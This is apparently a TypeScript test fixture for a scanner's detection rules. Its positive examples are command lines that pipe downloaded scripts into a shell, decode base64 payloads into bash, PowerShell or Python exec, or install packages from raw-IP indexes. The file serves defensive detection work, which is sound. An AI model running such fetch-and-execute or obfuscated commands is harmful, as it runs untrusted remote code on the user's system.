import type { RuleExamples } from "../rule-examples.ts";

/** What the rules of `piped.ts` must find, and what they must leave. */
export const EXAMPLES = {
  "recipe-shell-of-fetch-unnamed": {
    positive: [
      "`bash <(curl -s http://192.0.2.10/i.sh)`",
      'sh -c "$(curl -fsSL https://paste.example/raw/1)"',
      "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
      "mshta http://198.51.100.3/a.hta",
    ],
    negative: [
      'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
      "bash <(curl -s https://get.vendor.example/i.sh)",
      'eval "$(ssh-agent -s)"',
      "source <(kubectl completion bash)",
    ],
  },
  "recipe-decoded": {
    positive: [
      "`echo Y3VybCBodHRw | base64 -d | bash`",
      "```\nbase64 --decode <<< $X | sh\n```",
      "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
      'bash -c "$(echo aGVsbG8gd29ybGQ= | base64 -d)"',
      "python3 -c \"exec(base64.b64decode('aW1wb3J0'))\"",
    ],
    negative: [
      "`echo $CERT | base64 -d > cert.pem`",
      "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
      "Attackers hide commands: `echo … | base64 -d | bash` is a red flag.",
      "Encode the image with base64 and embed it.",
    ],
  },
  "recipe-odd-index": {
    positive: [
      "`pip install --index-url http://203.0.113.2/simple helper`",
      "npm install https://transfer.example/x/pkg.tgz",
      "uvx --from http://192.0.2.8/p.whl tool",
      "pip install --extra-index-url http://pypi.mirror.test/simple requests",
    ],
    negative: [
      "pip install git+https://github.com/huggingface/transformers",
      "pip install --index-url https://download.pytorch.org/whl/cpu torch",
      "npm install --registry http://localhost:4873 pkg",
      "pip install requests",
    ],
  },
} satisfies Record<string, RuleExamples>;
